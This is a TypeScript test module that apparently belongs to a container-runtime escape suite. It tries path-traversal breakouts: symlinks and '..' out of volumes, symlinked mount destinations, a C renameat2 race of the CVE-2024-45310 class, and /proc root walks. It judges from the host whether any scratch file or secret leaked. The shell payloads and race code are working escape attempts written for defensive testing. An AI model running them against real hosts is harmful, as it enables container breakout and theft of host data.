/**
 * Path traversal out of the container's files: symlinks and `..` that lead out of a volume or
 * out of the rootfs, mount destinations that are (or become, in a race) symlinks to host
 * directories, and walks through /proc's root and cwd links. Every host path an attempt aims at
 * lives in the trial's own scratch directory; the judge checks from the host that nothing
 * appeared there, that no mount of it showed in the host's mount table, and that the host's
 * secret was not printed.
 *
 * The race attempt is the class of CVE-2021-30465 and CVE-2024-45310 (runc before 1.1.14 could
 * be raced into creating an empty directory on the host while making a mount point).
 */
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { blocked, compileStatic, escaped, excerpt, forceDelete, leaksSecret, ranToEnd, report, runCommand, trialError } from '../framework.js';
import type { Attempt, RunOutput, Trial, Verdict } from '../framework.js';

/** Lists a host directory (names only), or [] when it is gone. */
function list(dir: string): string[] {
  try {
    return readdirSync(dir).sort();
  } catch {
    return [];
  }
}

/** Adds `NAME=value` to the workload's environment. */
function setEnv(t: Trial, name: string, value: string): void {
  const env = (t.spec['process'].env ??= []) as string[];
  env.push(`${name}=${value}`);
}

/**
 * Makes host directory `dir` with one file holding a fresh token (host data a container must
 * never see) and returns the token.
 */
function hostTarget(dir: string): string {
  const token = `MOAT-HOST-ONLY-${randomBytes(8).toString('hex')}`;
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'host-only'), `${token}\n`, { mode: 0o600 });
  return token;
}

/** Creates the bundle's rootfs directory before makeBundle copies the fixture into it. */
function preRootfs(t: Trial): void {
  mkdirSync(t.rootfs, { recursive: true, mode: 0o755 });
}

/** Watches the host's mount table for a mount at or under any of `paths` until stopped. */
function watchMounts(paths: string[]): { stop(): string[] } {
  const seen = new Set<string>();
  const scan = (): void => {
    let text = '';
    try {
      text = readFileSync('/proc/self/mountinfo', 'utf8');
    } catch {
      return;
    }
    for (const line of text.split('\n')) {
      const mp = line.split(' ')[4];
      if (mp && paths.some((p) => mp === p || mp.startsWith(`${p}/`))) seen.add(mp);
    }
  };
  scan();
  const timer = setInterval(scan, 10);
  timer.unref(); // a trial that fails before its judge must not keep the runner alive
  return {
    stop() {
      clearInterval(timer);
      scan();
      return [...seen];
    },
  };
}

/** What one extra run of the trial's rootfs (a second container) came to. */
interface ExtraRun {
  status: number | null;
  stdout: string;
  stderr: string;
}

/**
 * Runs the trial's rootfs once more as a second container (`hostDir/<name>/config.json`, a copy
 * of the trial's config with an absolute root path, edited by `edit`), in the foreground.
 */
function extraRun(t: Trial, name: string, edit: (spec: Record<string, any>) => void, timeoutMs = 30_000): Promise<ExtraRun> {
  // `any`: the OCI config as JSON
  const spec = JSON.parse(readFileSync(join(t.bundle, 'config.json'), 'utf8')) as Record<string, any>;
  spec['root'].path = t.rootfs;
  edit(spec);
  const bundle = join(t.hostDir, name);
  mkdirSync(bundle, { recursive: true });
  writeFileSync(join(bundle, 'config.json'), JSON.stringify(spec, null, 2));
  const root = join(dirname(t.hostDir), `state-${t.runtime}`);
  const id = `secx-${name}-${randomBytes(4).toString('hex')}`;
  const call = runCommand(t.runtime, root, bundle, id);
  return new Promise((resolve) => {
    const child = spawn(call.cmd, call.args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    const done = (status: number | null): void => {
      clearTimeout(timer);
      forceDelete(t.runtime, root, id);
      resolve({ status, stdout, stderr });
    };
    child.on('error', (e) => {
      stderr += e.message;
      done(null);
    });
    child.on('close', (status) => done(status));
  });
}

/** Swaps two host paths (a directory and a symlink) with renameat2(RENAME_EXCHANGE) until killed. */
const FLIPPER = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
static volatile sig_atomic_t stop;
static void on_term(int s) { (void)s; stop = 1; }
int main(int argc, char **argv) {
  if (argc != 4) return 2;
  alarm((unsigned)atoi(argv[3]));
  signal(SIGTERM, on_term);
  unsigned long n = 0, fails = 0;
  while (!stop) {
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) n++;
    else fails++;
  }
  printf("SWAPS=%lu\nFAILS=%lu\n", n, fails);
  return 0;
}
`;

/** Per-trial state of the attempts that keep some between setup, during and judge. */
const state = new Map<string, { token: string; target: string; watch?: { stop(): string[] }; mounts?: string[]; runs?: ExtraRun[]; swaps?: string }>();

/** The host-side checks shared by the mount attempts: the target directory untouched, no host mount of it. */
function judgeTarget(t: Trial, out: RunOutput, what: string): Verdict | undefined {
  const s = state.get(t.hostDir);
  state.delete(t.hostDir);
  if (!s) return trialError('setup did not run');
  const mounts = s.mounts ?? s.watch?.stop() ?? [];
  const now = list(s.target);
  if (mounts.length > 0) return escaped(`${what}: the host's mount table showed ${mounts.join(', ')}`);
  if (now.join(',') !== 'host-only') return escaped(`${what}: the host directory ${s.target} now holds ${now.join(', ')}`);
  if (leaksSecret(t, out) || out.stdout.includes(s.token) || out.stderr.includes(s.token)) return escaped(`${what}: host data came out: ${excerpt(out)}`);
  return undefined;
}

/** The raced starts' workload: where the volume is, seen from inside (the rootfs copy it landed on). */
const RACE_PROBE = 'for p in /flip/$SUB /flip-alt/$SUB; do [ -e $p/vol-marker ] && echo AT=$p; done; echo DONE=1';

/** A start the runtime refused because of the mount at `dest` (a block, not a broken trial). */
function refused(out: RunOutput, dest: string): Verdict | undefined {
  if (ranToEnd(out) || out.status === 0 || out.timedOut || !out.stderr.includes(`"${dest}"`)) return undefined;
  return blocked(`the runtime refused the mount: ${out.stderr.trim().split('\n').slice(-1)[0]?.slice(-120) ?? ''}`);
}

/** The attempts of this category. */
export const attempts: Attempt[] = [
  {
    id: 'traversal-volume-symlink',
    category: 'traversal',
    title: 'plants symlinks to /, to ../.. and to the host path of the volume\'s parent inside a volume, then writes and reads through them',
    shows: 'symlinks in a volume resolve inside the container\'s root: no file appears next to the volume on the host',
    sh: [
      'cd /vol || exit 1',
      'ln -s / /vol/root; ln -s ../../../../../../.. /vol/up; ln -s "$HOSTDIR" /vol/hostdir; ln -s .. /vol/parent',
      'for p in "/vol/root$HOSTDIR/escape-a" "/vol/root/..$HOSTDIR/escape-b" "/vol/up$HOSTDIR/escape-c" "/vol/hostdir/escape-d" "/vol/parent/escape-e"; do',
      '  if echo breakout 2>/dev/null > "$p"; then echo "WROTE=$p"; fi',
      'done',
      'for p in "/vol/root$SECRET_FILE" "/vol/up$SECRET_FILE" "/vol/hostdir/host-secret" "/vol/parent/host-secret"; do cat "$p" 2>/dev/null; done',
      'echo LINKS=$(ls /vol)',
      'echo DONE=1',
    ].join('\n'),
    notApplicable: { 'moat-microvm': 'a microVM takes no host bind mounts (volumes are not mounted in the guest)' },
    setup: (t) => {
      mkdirSync(join(t.hostDir, 'vol'));
      t.addVolume(join(t.hostDir, 'vol'), '/vol');
      setEnv(t, 'HOSTDIR', t.hostDir);
      setEnv(t, 'SECRET_FILE', t.secretFile);
    },
    judge: (t, out) => {
      const stray = list(t.hostDir).filter((n) => n.startsWith('escape-'));
      if (stray.length > 0) return escaped(`wrote ${stray.join(', ')} next to the volume on the host`);
      if (leaksSecret(t, out)) return escaped('read the host secret through a symlink in the volume');
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      const links = report(out).get('LINKS') ?? '';
      if (!links.includes('root')) return trialError(`the symlinks were not made in the volume: ${excerpt(out)}`);
      const wrote = report(out).get('WROTE');
      return blocked(wrote ? `the writes stayed in the container (last: ${wrote})` : 'every path resolved inside the container\'s root');
    },
  },
  {
    id: 'traversal-volume-dotdot',
    category: 'traversal',
    title: 'climbs out of a volume with `..` (cat /vol/../../../<host path of the secret>, cd /vol/.. and read)',
    shows: '`..` at a mount point goes to the container\'s own parent directory, never the host\'s',
    sh: [
      'cat "/vol/../../../../../..$SECRET_FILE" 2>/dev/null',
      'cat /vol/../host-secret 2>/dev/null',
      'cd /vol && cd .. && cd .. && cat "./$SECRET_FILE" 2>/dev/null; cat ./host-secret 2>/dev/null',
      'cd /vol/sub && cat ../../host-secret 2>/dev/null; cat "../../../../../..$SECRET_FILE" 2>/dev/null',
      'echo PARENT=$(ls /vol/..)',
      'echo DONE=1',
    ].join('\n'),
    notApplicable: { 'moat-microvm': 'a microVM takes no host bind mounts (volumes are not mounted in the guest)' },
    setup: (t) => {
      mkdirSync(join(t.hostDir, 'vol/sub'), { recursive: true });
      t.addVolume(join(t.hostDir, 'vol'), '/vol');
      setEnv(t, 'SECRET_FILE', t.secretFile);
    },
    judge: (t, out) => {
      if (leaksSecret(t, out)) return escaped('read the host secret by climbing out of the volume');
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      const parent = report(out).get('PARENT') ?? '';
      if (!parent.includes('bin')) return trialError(`/vol/.. is not the container's root: ${parent}`);
      return blocked('/vol/.. is the container\'s own root');
    },
  },
  {
    id: 'traversal-dest-symlink',
    category: 'traversal',
    title: 'a rootfs symlink to a host directory as a mount destination\'s parent (rootfs/evil -> host dir, tmpfs at /evil/sub)',
    shows: 'the runtime resolves mount destinations inside the rootfs: nothing is created or mounted in the host directory',
    sh: [
      'echo breakout > /evil/sub/marker 2>/dev/null && echo MARKER=1',
      'echo SUB_IS_MOUNT=$(grep -c " /evil/sub \\| $TARGET/sub " /proc/self/mountinfo)',
      'cat /evil/host-only 2>/dev/null',
      'echo DONE=1',
    ].join('\n'),
    setup: (t) => {
      const target = join(t.hostDir, 'target');
      const token = hostTarget(target);
      preRootfs(t);
      symlinkSync(target, join(t.rootfs, 'evil'));
      (t.spec['mounts'] as object[]).push({ destination: '/evil/sub', type: 'tmpfs', source: 'tmpfs', options: ['nosuid', 'nodev', 'size=1m'] });
      setEnv(t, 'TARGET', target);
      state.set(t.hostDir, { token, target, watch: watchMounts([target]) });
    },
    judge: (t, out) => {
      const host = judgeTarget(t, out, 'mount at /evil/sub');
      if (host) return host;
      const no = refused(out, '/evil/sub');
      if (no) return no;
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      const r = report(out);
      if (r.get('SUB_IS_MOUNT') === '0') return blocked(`no tmpfs was mounted at /evil/sub, and the rootfs symlink was not followed to the host (marker written: ${r.get('MARKER') === '1' ? 'yes' : 'no'})`);
      return blocked(`the tmpfs landed inside the container (marker written: ${r.get('MARKER') === '1' ? 'yes' : 'no'})`);
    },
  },
  {
    id: 'traversal-dest-is-symlink',
    category: 'traversal',
    title: 'a rootfs symlink to a host directory as the bind mount destination itself (rootfs/evil -> host dir, volume at /evil)',
    shows: 'the volume is mounted inside the rootfs; the host directory is neither covered nor written',
    sh: [
      'echo breakout > /evil/marker 2>/dev/null && echo MARKER=1',
      'cat /evil/host-only 2>/dev/null',
      'echo VOLUME=$(cat /evil/vol-marker 2>/dev/null)',
      'echo DONE=1',
    ].join('\n'),
    notApplicable: { 'moat-microvm': 'a microVM takes no host bind mounts (volumes are not mounted in the guest)' },
    setup: (t) => {
      const target = join(t.hostDir, 'target');
      const token = hostTarget(target);
      mkdirSync(join(t.hostDir, 'vol'));
      writeFileSync(join(t.hostDir, 'vol/vol-marker'), 'volume\n');
      preRootfs(t);
      symlinkSync(target, join(t.rootfs, 'evil'));
      t.addVolume(join(t.hostDir, 'vol'), '/evil');
      state.set(t.hostDir, { token, target, watch: watchMounts([target]) });
    },
    judge: (t, out) => {
      const host = judgeTarget(t, out, 'bind at /evil');
      if (host) return host;
      const no = refused(out, '/evil');
      if (no) return no;
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      const r = report(out);
      return blocked(`the volume was mounted inside the rootfs (volume seen at /evil: ${r.get('VOLUME') === 'volume' ? 'yes' : 'no'})`);
    },
  },
  {
    id: 'traversal-dest-race',
    category: 'traversal',
    title: 'swaps rootfs/flip between a directory and a symlink to a host directory while the runtime creates /flip/subN and bind-mounts a volume there (up to 30 starts; CVE-2024-45310 class)',
    shows: 'mount destinations are resolved and mounted without a window: the host directory gets no mount point and no mount',
    sh: 'echo VOLUME=$(cat /flip/sub/vol-marker 2>/dev/null); echo DONE=1',
    notApplicable: { 'moat-microvm': 'a microVM takes no host bind mounts (volumes are not mounted in the guest)' },
    timeoutMs: 90_000,
    setup: (t) => {
      const target = join(t.hostDir, 'target');
      const token = hostTarget(target);
      mkdirSync(join(t.hostDir, 'vol'));
      writeFileSync(join(t.hostDir, 'vol/vol-marker'), 'volume\n');
      preRootfs(t);
      mkdirSync(join(t.rootfs, 'flip/sub'), { recursive: true });
      symlinkSync(target, join(t.rootfs, 'flip-alt'));
      t.addVolume(join(t.hostDir, 'vol'), '/flip/sub');
      state.set(t.hostDir, { token, target });
    },
    during: async (t, running) => {
      const s = state.get(t.hostDir);
      if (!s) return;
      const out = await running; // the plain run first: it shows the volume lands at /flip/sub
      if (!ranToEnd(out)) return;
      const watch = watchMounts([s.target]);
      const flipper = spawn(compileStatic(FLIPPER, join(dirname(t.hostDir), 'bin')), [join(t.rootfs, 'flip'), join(t.rootfs, 'flip-alt'), '120'], {
        stdio: ['ignore', 'pipe', 'ignore'],
      });
      let swaps = '';
      flipper.stdout.on('data', (d: Buffer) => (swaps += d.toString()));
      const flipped = new Promise<void>((resolve) => flipper.on('close', () => resolve()));
      const runs: ExtraRun[] = [];
      const started = Date.now();
      try {
        // as many starts as fit in ~10 s (at least 3, at most 30): a fast runtime gets more tries
        for (let i = 0; i < 30 && (i < 3 || Date.now() - started < 10_000); i++) {
          // a new mount point each start (/flip/subN): the runtime has to create it, through whatever /flip is then
          runs.push(
            await extraRun(t, `race${i}`, (spec) => {
              spec['process'].args = ['/bin/sh', '-c', RACE_PROBE];
              (spec['process'].env as string[]).push(`SUB=sub${i}`);
              for (const m of spec['mounts'] as { destination: string }[]) if (m.destination === '/flip/sub') m.destination = `/flip/sub${i}`;
            }),
          );
        }
      } finally {
        flipper.kill('SIGTERM');
        await flipped;
        s.mounts = watch.stop();
        s.runs = runs;
        s.swaps = swaps.replace(/\n/g, ' ').trim();
      }
    },
    judge: (t, out) => {
      const runs = state.get(t.hostDir)?.runs ?? [];
      const swaps = state.get(t.hostDir)?.swaps ?? '';
      const host = judgeTarget(t, out, 'raced bind at /flip/subN');
      if (host) return host;
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      if (report(out).get('VOLUME') !== 'volume') return trialError(`the volume was not at /flip/sub in the plain run: ${excerpt(out)}`);
      if (runs.length === 0) return trialError('no raced start ran');
      const ran = runs.filter((r) => r.stdout.includes('DONE=1'));
      const at = (dir: string): number => ran.filter((r) => r.stdout.includes(`AT=/${dir}/`)).length;
      const elsewhere = ran.filter((r) => !r.stdout.includes('AT=')).length;
      const why = runs.find((r) => !r.stdout.includes('DONE=1'))?.stderr.trim().split('\n').slice(-1)[0]?.slice(-100);
      return blocked(
        `${runs.length} raced starts: ${ran.length} ran (the volume seen at /flip ${at('flip')}, at the swapped-away /flip-alt ${at('flip-alt')}, ` +
          `elsewhere in the rootfs ${elsewhere})${why ? `, ${runs.length - ran.length} refused (${why})` : ''}; ${swaps}; host directory untouched`,
      );
    },
  },
  {
    id: 'traversal-vol-nested-dest',
    category: 'traversal',
    title: 'replaces a directory in a volume with a symlink to a host directory; a second start mounts a tmpfs below it (/vol/sub/inner)',
    shows: 'a mount destination under a volume is resolved inside the container: the symlink the container planted is not followed on the host',
    sh: 'rmdir /vol/sub && ln -s "$TARGET" /vol/sub && echo PLANTED=1; echo DONE=1',
    notApplicable: { 'moat-microvm': 'a microVM takes no host bind mounts (volumes are not mounted in the guest)' },
    setup: (t) => {
      const target = join(t.hostDir, 'target');
      const token = hostTarget(target);
      mkdirSync(join(t.hostDir, 'vol/sub'), { recursive: true });
      t.addVolume(join(t.hostDir, 'vol'), '/vol');
      setEnv(t, 'TARGET', target);
      state.set(t.hostDir, { token, target });
    },
    during: async (t, running) => {
      const s = state.get(t.hostDir);
      if (!s) return;
      const out = await running;
      if (!ranToEnd(out)) return;
      const watch = watchMounts([s.target]);
      try {
        s.runs = [
          await extraRun(t, 'second', (spec) => {
            spec['process'].args = ['/bin/sh', '-c', 'echo breakout > /vol/sub/inner/marker 2>/dev/null && echo MARKER=1; cat /vol/sub/host-only 2>/dev/null; echo DONE=1'];
            (spec['mounts'] as object[]).push({ destination: '/vol/sub/inner', type: 'tmpfs', source: 'tmpfs', options: ['nosuid', 'nodev', 'size=1m'] });
          }),
        ];
      } finally {
        s.mounts = watch.stop();
      }
    },
    judge: (t, out) => {
      const second = state.get(t.hostDir)?.runs?.[0];
      if (second && (second.stdout.includes(state.get(t.hostDir)?.token ?? '-') || second.stdout.includes(t.secret))) {
        state.delete(t.hostDir);
        return escaped('the second start read host data through the planted symlink');
      }
      const host = judgeTarget(t, out, 'tmpfs at /vol/sub/inner');
      if (host) return host;
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      if (report(out).get('PLANTED') !== '1') return trialError(`the symlink was not planted: ${excerpt(out)}`);
      if (!second) return trialError('the second start did not run');
      if (second.stdout.includes('DONE=1')) return blocked('the second start mounted the tmpfs inside the container\'s root');
      return blocked(`the second start was refused: ${second.stderr.trim().split('\n').slice(-1)[0] ?? ''}`);
    },
  },
  {
    id: 'traversal-proc-root-walk',
    category: 'traversal',
    title: 'walks up from /proc/self/root, /proc/1/root and /proc/1/cwd with `..` to reach the host path of the secret',
    shows: 'the magic links lead to the container\'s own root, and `..` stops there',
    sh: [
      'cat "/proc/self/root/../../../../..$SECRET_FILE" 2>/dev/null',
      'cat "/proc/1/root/../../../../..$SECRET_FILE" 2>/dev/null',
      'cat "/proc/1/cwd/../../../../..$SECRET_FILE" 2>/dev/null',
      'cat "/proc/self/cwd/../../../../..$SECRET_FILE" 2>/dev/null',
      'cd /proc/1/root && cd ../../../.. && cat ".$SECRET_FILE" 2>/dev/null',
      'cd /proc/self/cwd/.. && cd ../../.. && cat ".$SECRET_FILE" 2>/dev/null',
      'echo UP=$(ls /proc/self/root/../..)',
      'echo DONE=1',
    ].join('\n'),
    setup: (t) => setEnv(t, 'SECRET_FILE', t.secretFile),
    judge: (t, out) => {
      if (leaksSecret(t, out)) return escaped('read the host secret through a /proc root or cwd link');
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      const up = report(out).get('UP') ?? '';
      if (up.includes('bin')) return blocked('/proc/self/root/.. is the container\'s own root');
      // the sentry's synthesized /proc: the root link is not followed as a directory, `..` goes back up /proc
      return blocked(`the walk stayed inside the container (/proc/self/root/../.. lists: ${up.trim().slice(0, 60)})`);
    },
  },
];
